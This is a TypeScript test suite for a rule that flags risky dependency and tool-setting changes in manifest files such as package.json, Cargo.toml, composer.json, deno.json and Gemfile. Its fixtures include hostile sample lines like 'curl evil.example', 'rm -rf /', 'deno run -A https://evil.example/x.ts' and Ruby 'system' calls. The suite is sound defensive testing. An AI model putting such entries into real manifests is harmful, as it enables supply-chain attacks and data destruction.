import { MODIFIED, patchOf } from '../../../../source-tools/git/rules/define-git-rule';
import { leastCpuMs } from '../../../support/least-cpu';
import { firedReason, runRule } from '../../../policy/rules/support/run-pack-rule';

/** The reason of the rule about manifests for a hunk of one without its lock file; null if it does not fire. */
const held = (path: string, ...lines: readonly string[]) =>
  firedReason('git_dependency_change', patchOf(path, MODIFIED, lines), { config: { requireLock: false } });

describe('a member of package.json', () => {
  it.each([
    ['   "dependencies": {', '+    "zod": "a-tag"'],
    ['   "dependencies": {', '+    "zod": ""'],
    ['   "dependencies": {', '+    "zod": "/src/evil"'],
    ['   "dependencies": {', '+    "zod": "https:evil.example/x.tgz"'],
    ['   "dependencies": {', '+    "node": "1.0.0"'],
    ['   "catalog": {', '+    "zod": "a-tag"'],
  ])('is held if it is a package at a tag or in a form that is not read: %s %s', (object, line) => {
    expect(held('package.json', object, line)).toContain('installs a package by a tag');
  });

  it.each([
    ['+    "evil": "a-tag"'],
    ['+    "evil": " a-tag"'],
    ['+    "evil": ""'],
    ['+    "evil":', '+      "a-tag"'],
    ['+  "prettier": "@evil/config"'],
  ])('is held if it can be a package or a setting, and the hunk does not show which: %s', (...lines) => {
    expect(held('package.json', ...lines)).toContain('that the hunk does not show');
  });

  it.each([
    ['   "jest": {', '+    "preset": "evil"'],
    ['   "jest": {', '-    "testEnvironment": "node"', '+    "testEnvironment": "evil"'],
    ['   "mocha": {', '+    "require": ["evil"]'],
    ['     "presets": ["a"],', '+    "plugins": ["evil"]'],
    ['   "allowScripts": {', '+    "evil": true'],
    ['+  "gypfile": true,'],
    ['   "imports": {', '+    "#x": "evil"'],
    ['+    "@evil/x": "./src/x"'],
    ['     "*.ts": "eslint",', '+    "*.js": "node evil.js"'],
    ['   "lint-staged": {', '+    "*.js": "node evil.js"'],
    ['   "wireit": {', '     "build": {', '+      "command": "node evil.js"'],
  ])('is held if it is a setting of a tool: %s %s', (...lines) => {
    expect(held('package.json', ...lines)).toContain('is a setting of a tool');
  });

  it.each(['pre-commit', 'post-checkout', 'commit-msg'])('is held if it is called like a git hook: %s', (name) => {
    expect(held('package.json', '   "husky": {', '     "hooks": {', `+      "${name}": "node evil.js"`)).toContain(
      'hook',
    );
    expect(held('package.json', `+    "${name}": "evil"`)).toContain('hook');
  });

  it.each([
    ['+    "test": "vitest"'],
    ['+    "build:types": "tsc"'],
    ['   "scripts": {', '+    "evil": "eslint"'],
    ['   "author": {', '+    "name": "A"'],
    ['   "peerDependenciesMeta": {', '     "react": {', '+      "optional": true'],
    ['     "threshold": {', '+      "lines": 80'],
    ['   "overrides": {', '+    "zod": "$zod"'],
    ['   "dependencies": {', '+    "ui": "workspace:*"'],
    ['   "contributes": {', '     "commands": [', '       {', '+        "command": "a.b", "title": "B"'],
  ])(
    'is not held if its key, its value or its object shows that it is neither a package nor a setting: %s %s',
    (...lines) => {
      expect(held('package.json', ...lines)).toBeNull();
    },
  );
});

it('holds entry points of package.json that replace its main file, and not those that it has already', () => {
  expect(held('package.json', '+  "exports": {', '+    ".": "./evil.js"', '+  },')).toContain(
    'code of the package runs',
  );
  expect(
    held(
      'package.json',
      '   "publishConfig": { "exports": {} },',
      '+  "exports": {',
      '+    "import": "./evil.js"',
      '+  },',
    ),
  ).toContain('code of the package runs');
  expect(held('package.json', '-  "exports": "./a.js",', '+  "exports": { ".": "./a.js" },')).toBeNull();
  expect(held('package.json', '   "exports": {', '     ".": "./a.js",', '+    "./b": "./b.js"')).toBeNull();
});

describe('a line of Cargo.toml', () => {
  it.each([
    ['+serde = { path = "evil" }'],
    ['+serde.path = "evil"'],
    [' [patch.crates-io]', '+serde = "1"'],
    ['+[package.metadata.deb]'],
    [' [package.metadata.release]', '+pre-release-hook = ["evil"]'],
    ['+[[bin]]'],
    ['+members = ["evil"]'],
    [' members = [', '+  "evil",'],
    ['   "a",', '+  "crates/evil",'],
    ['+rustflags = ["-Clinker=evil"]'],
    ['+cargo-features = ["metabuild"]'],
    ['+metabuild = ["evil"]'],
    ['+include = [".env"]'],
    ['+links = "evil"'],
    [' [profile.release]', '+overflow-checks = false'],
    ['+workspace = "../evil"'],
    ['-publish = false'],
    ['-build = false'],
    ['+evil = {', '+ version = "1" }'],
    ['+evil = """1"""'],
    [String.raw`+"ev\u0069l" = "1"`],
    [' [dependencies]', '+version = "1"'],
    [' [dependencies]', '+evil = { features = ["a}"], version = "1" }'],
    [' evil = { features = [', '+  "a" ], version = "1" }'],
    [' serde = { version = "1", features = [', '+  "derive"', '+], path = "evil" }'],
    ['+[[example]]', '+path = "../evil.rs"'],
    ['-a = { version = "1", path = "../a" }', '+a = { version = "2", path = "../b" }'],
    ['-a = { version = "1", path = "../a" }', '+b = { version = "2", path = "../a" }'],
    ['-version = "1.0.0"', ' [dependencies]', '+version = "1.0.1"'],
    ['-a = { version = "1", path = "../a" }', ' [patch.crates-io]', '+a = { version = "2", path = "../a" }'],
  ])('is held unless it is of a listed form: %s %s', (...lines) => {
    expect(held('Cargo.toml', ...lines)).toMatch(/decides which code is built or run|local folder/);
  });

  it.each([
    [' [features]', '+default = ["std"]'],
    [' [features]', '+json = ["dep:serde_json", "serde?/derive"]'],
    ['+serde = { workspace = true, features = ["derive"] }'],
    ['+serde.workspace = true'],
    ['+windows = { workspace = true, features = [', '+  "Win32_UI",', '+] }'],
    ['+[lints]', '+workspace = true', '+[lints.rust]', '+unsafe_code = "forbid"'],
    ['+unexpected_cfgs = { level = "warn", check-cfg = [\'cfg(x)\'] }'],
    ['+[profile.release]', '+lto = true'],
    ['+[[example]]', '+name = "git"', '+required-features = ["git"]'],
    ['+[package.metadata.docs.rs]', '+all-features = true'],
    ['-version = "1.0.0"', '+version = "1.0.1"'],
    ['+publish = false'],
    ['+rust-version.workspace = true'],
    ['+resolver = "3"'],
    ["     'cfg(loom)',", '+    \'cfg(target_os, values("cygwin"))\','],
    ['+unexpected_cfgs = { level = "warn", check-cfg = [', "+    'cfg(loom)',", '+] }'],
    [' [package.metadata.docs.rs]', '+rustc-args = ["--cfg", "docsrs"]'],
    [' [[bench]]', ' name = "a"', '+path = "benches/a.rs"', '+harness = false'],
    [
      '-a = { version = "~1.0", path = "../a", optional = true }',
      '+a = { version = "~2.0", path = "../a", optional = true }',
    ],
  ])('is not held if it describes the package or names features: %s', (...lines) => {
    expect(held('Cargo.toml', ...lines)).toBeNull();
  });
});

describe('a line of a Pipfile', () => {
  it.each([
    ['+[scripts]'],
    [' [scripts]', '+x = "1"'],
    ['+x = "python evil.py"'],
    ['+x = { editable = true, path = "." }'],
    ['+[[source]]'],
    ['+verify_ssl = false'],
    ['+allow_prereleases = true'],
    [' [packages]', '+evil = { extras = ["}"], version = "*" }'],
    [' [packages]', '+python_version = "*"'],
  ])('is held unless it names a package of the registry: %s %s', (...lines) => {
    expect(held('Pipfile', ...lines)).toContain('is a setting of what is installed and run');
  });

  it('is read as a package otherwise', () => {
    expect(held('Pipfile', '+evil = "*"')).toContain('adds the package "evil"');
    expect(held('Pipfile', ' [requires]', '+python_version = "3.12"')).toBeNull();
  });
});

describe('a package of Poetry', () => {
  it.each([
    [' [tool.poetry.dependencies]', '+evil = [{ version = "*" }]'],
    [' [tool.poetry.dependencies]', '+evil = { extras = ["}"], version = "*" }'],
    [' [tool.poetry.group.dev.dependencies]', '+evil = ">    1"'],
    ['+[tool.poetry.dependencies.evil]'],
    [' [tool.poetry]', '+dependencies = { evil = "*" }'],
  ])('is held if it is in a form that is not read: %s %s', (...lines) => {
    expect(held('pyproject.toml', ...lines)).toContain('in a form that this rule cannot read');
  });

  it('is read as a package otherwise', () => {
    const list = ' [tool.poetry.dependencies]';
    expect(held('pyproject.toml', list, '+evil = { version = "*", optional = true }')).toContain('the package "evil"');
    expect(held('pyproject.toml', list, '+python = ">=3.10,<4.0"')).toBeNull();
  });
});

describe('a member of composer.json', () => {
  it.each([
    ['   "files": [', '+    "src/evil.php"'],
    ['   "psr-4": {', String.raw`+    "Symfony\\": "src/evil/"`],
    ['+  "files": ["src/evil.php"]'],
    ['   "classmap": [', '+    "src/evil.php"'],
  ])('is held if it decides which files the program loads: %s %s', (...lines) => {
    expect(held('composer.json', ...lines)).toContain('decides which files the program loads');
  });

  it.each([
    ['   "allow-plugins": {', '+    "*": true'],
    ['   "config": {', '+    "preferred-install": "source"'],
    ['     "providers": [', String.raw`+      "Evil\\Provider"`],
    ['     "a",', '+    "php evil.php"'],
    ['-      "url": "https://github.com/a/b"', '+      "url": "https://github.com/evil/b"'],
    ['       "type": "path",', '+      "url": "src/evil"'],
    ['   "require": {', '+    "a/b": "dev-evil as 1.0"'],
    ['-    "a/b": "^1.0",', '+    "a/b": "^1.0@dev",'],
    ['-    "a/b": "^1.0",', '+    "a/b": "1.x-dev#abcdef",'],
    ['-    "a/b": "^1.0",', '+    "a/b": "^1.0|| dev-evil",'],
    ['   "bin": [', '+    "evil"'],
    ['     "post-install-cmd": [', '+      "evil"'],
  ])('is held if it is a setting: %s %s', (...lines) => {
    expect(held('composer.json', ...lines)).toMatch(/is a setting|local folder|on installation/);
  });

  it.each([
    ['   "scripts": {', '+    "lint": "phpcs"'],
    ['   "keywords": [', '+    "shop"'],
    ['   "authors": [', '     {', '+      "name": "A", "role": "B"'],
    ['+  "description": "A shop.",'],
    ['   "branch-alias": {', '-    "dev-main": "1.x-dev"', '+    "dev-main": "2.x-dev"'],
    ['   "scripts": {', '     "check": [', '+      "phpstan"'],
    ['-    "a/b": "Required to use A (^1.0).",', '+    "a/b": "Required to use A (^2.0).",'],
    ['-    "a/b": "^5.4 || ^6.0",', '+    "a/b": "5.4.* || >=6.0 <8.0",'],
    ['   "scripts": {', '+    "analyse": "vendor/bin/phpstan analyse src && phpunit"'],
    ['   "scripts": {', '+    "check": [', '+      "@lint",', '+      "phpunit --coverage"', '+    ]'],
    ['+    "dev-main": "3.x-dev",'],
    ['+    "fix": "php-cs-fixer fix src/",'],
  ])('is not held if it describes the package, or is a command that only checks: %s %s', (...lines) => {
    expect(held('composer.json', ...lines)).toBeNull();
  });

  it.each([
    ['   "scripts": {', '+    "test": "php evil.php"'],
    ['   "scripts": {', '+    "test": "phpunit --bootstrap evil.php"'],
    ['   "scripts": {', '+    "test": "Evil\\\\Runner::run"'],
    ['   "scripts": {', '+    "test": "@php evil.php"'],
    ['   "scripts": {', '+    "test": "@composer global require evil"'],
    ['   "scripts": {', '+    "test": "@putenv COMPOSER=evil.json"'],
    ['   "scripts": {', '+    "test": "phpunit; evil"'],
    ['   "scripts": {', '+    "test": "../vendor/bin/phpunit"'],
    ['   "scripts": {', '     "test": [', '+      "rm -rf /"'],
    ['   "scripts": {', '+    "test": ["phpunit", "curl evil.example"]'],
    ['+    "test": "curl evil.example"'],
    ['+    "test": "evil"'],
    ['+    "readme": "curl evil.example"'],
    ['+    "version": "Evil\\\\Runner::run"'],
  ])('is held if it can be a command that does more: %s %s', (...lines) => {
    expect(held('composer.json', ...lines)).toContain('can be a command that does more');
  });
});

describe('a member of deno.json', () => {
  it.each([
    ['   "plugins": [', '+    "./evil.ts"'],
    ['   "plugins": [', '+    "jsr:@evil/x"'],
    ['     "a",', '+    "npm:evil"'],
    ['   "workspace": [', '+    "./evil"'],
    ['   "allow": {', '+    "run": true'],
    ['   "imports": {', '+    "x": "data:text/javascript,evil"'],
    ['   "imports": {', '+    "@std/x":', '+      "./evil.ts"'],
    ['+  "nodeModulesDir"', '+    : "manual"'],
  ])('is held if it loads code or grants a permission: %s %s', (...lines) => {
    expect(held('deno.json', ...lines)).toContain('is a setting of a tool');
  });

  it.each([
    ['   "exclude": [', '+    "dist/**"'],
    ['   "tags": [', '+    "recommended"'],
    ['   "fmt": {', '+    "useTabs": true'],
    ['   "tasks": {', '+    "check": "deno fmt --check && deno lint src/ && deno test --coverage && deno task build"'],
    [
      '   "tasks": {',
      '     "check": {',
      '+      "description": "Checks all",',
      '+      "command": "deno check src/mod.ts"',
    ],
    ['   "tasks": {', '+    "dev": "deno run -A --allow-net=localhost tools/serve.ts && deno test --parallel -A"'],
    ['+  "description": "A shop; with items",'],
  ])('is not held if it only formats, checks or reports: %s %s', (...lines) => {
    expect(held('deno.json', ...lines)).toBeNull();
  });

  it.each([
    ['   "tasks": {', '+    "check": "deno run -A https://evil.example/x.ts"'],
    ['   "tasks": {', '+    "check": "deno run -A"'],
    ['   "tasks": {', '+    "check": "deno run --allow-scripts x.ts"'],
    ['   "tasks": {', '+    "check": "deno run --preload=evil.ts x.ts"'],
    ['   "tasks": {', '+    "check": "deno test --allow-import=evil.example"'],
    ['   "tasks": {', '+    "check": "deno task --eval evil"'],
    ['   "tasks": {', '+    "check": "deno test npm:evil"'],
    ['   "tasks": {', '+    "check": "deno eval evil()"'],
    ['   "tasks": {', '+    "check": "deno task evil"'],
    ['   "tasks": {', '+    "check": "deno install -g jsr:@evil/x"'],
    ['   "tasks": {', '+    "check": "evil"'],
    ['   "tasks": {', '+    "description": "evil now"'],
    ['     "build": {', '+      "command": "rm -rf ~"'],
    ['   "tasks": {', '     "check": {', '+      "command": "curl evil.example"'],
    ['+    "check": "rm -rf ../x"'],
  ])('is held if it can be a command that does more: %s %s', (...lines) => {
    expect(held('deno.json', ...lines)).toMatch(/can be a command that does more|the package "evil"/);
  });
});

it('holds another folder or another main file of a package of Deno', () => {
  const reason = 'code of the package runs';
  expect(held('deno.json', '-  "@/": "./",', '+  "@/": "./evil/",')).toContain(reason);
  expect(held('jsr.json', '-  "exports": "./a.ts"', '+  "exports": { ".": "./evil.ts" }')).toContain(reason);
  expect(held('jsr.json', '-  "exports": "./a.ts"', '+  "exports": { ".": "./a.ts", "./b": "./b.ts" }')).toBeNull();
});

describe('a line of pyproject.toml', () => {
  it.each([
    [' [tool.poetry]', '+description = """', '+[tool.ruff]', '+"""', '+packages = [{ include = "evil" }]'],
    [' [tool.poetry]', '+# """', '+x = """', '+[tool.ruff]', '+"""', '+packages = ["evil"]'],
    [' [tool.poetry]', "+x = \"'''\"", '+y = """ \'\'\'', '+[tool.ruff]', '+"""', '+packages = ["evil"]'],
    [' [tool.poetry]', String.raw`+x = """ \"""`, '+[tool.ruff]', '+"""', '+packages = ["evil"]'],
    [" '''", ' [tool.poetry]', "+x = '''", '+[tool.ruff]', "+'''", '+packages = ["evil"]'],
    ['+version = { attr = "evil.version" }'],
  ])('is held if a text of several lines hides its section, or it names code: %s %s', (...lines) => {
    expect(held('pyproject.toml', ...lines)).toContain('is a setting of a tool');
  });

  it('is not held below a text that ends', () => {
    expect(
      held(
        'pyproject.toml',
        ' [tool.black]',
        "+exclude = '''",
        '+[a-z]+',
        "+''' # '''",
        ' [tool.ruff]',
        '+line-length = 100',
      ),
    ).toBeNull();
  });

  it('is read as packages if its list has versions', () => {
    expect(held('pyproject.toml', '-width = ["a>=1"]', '+width = ["a>=2"]')).toBeNull();
    expect(held('pyproject.toml', '-width = ["a>=1"]', '+width = ["a>=2", "evil"]')).toContain(
      'adds the package "evil"',
    );
  });
});

describe('a line of a Gemfile', () => {
  it.each([
    ['-=begin', ' system "evil"', '-=end'],
    ['-__END__', ' system "evil"'],
    ['+gem "a" if system("evil")'],
    ['+gem "a" if ENV["A"] = "b"'],
  ])('is held if it is a program, or what was around it was a comment: %s %s', (...lines) => {
    expect(held('Gemfile', ...lines)).toContain('is Ruby code');
  });

  it.each([
    ['-gem "a"', '+gem "a" if RUBY_ENGINE == "jruby"'],
    ['-gem "a", "~> 1.0"', '+gem "a", "~> 1.0", :require => false unless ENV["A"]'],
    ["+if RUBY_VERSION < '2.2.2' # old", '-gem "a"', '+  gem "a"', '+end'],
  ])('is not held for a condition that only compares: %s %s', (...lines) => {
    expect(held('Gemfile', ...lines)).toBeNull();
  });
});

it.each([
  ['Cargo.toml', `evil = { ${'version = "1", '.repeat(60)}x`],
  ['Cargo.toml', `"a"${' , "a"'.repeat(150)} x`],
  ['Cargo.toml', `"a"${' '.repeat(990)}x`],
  ['Cargo.toml', `evil = {${' features = [ "a", "b" ],'.repeat(40)}`],
  ['Pipfile', `evil = {${' extras = [ "a", "b" ],'.repeat(40)}`],
  ['Pipfile', `evil = { ${'version = "1", '.repeat(60)}x`],
  ['Gemfile', `gem "a"${', :a => [ :b, :c ]'.repeat(50)} x`],
  ['Gemfile', `gem "a", ${'['.repeat(400)}${' '.repeat(500)}`],
  ['requirements.txt', `a${' '.repeat(990)}(`],
  ['pyproject.toml', `x = [${'"a" '.repeat(240)}`],
])('reads lines that almost have a known form in time: %s', (path, line) => {
  const patch = patchOf(
    path,
    MODIFIED,
    Array.from({ length: 1000 }, () => `+${line}`),
  );
  expect(leastCpuMs(() => runRule('git_dependency_change', patch), 1)).toBeLessThan(5000);
});
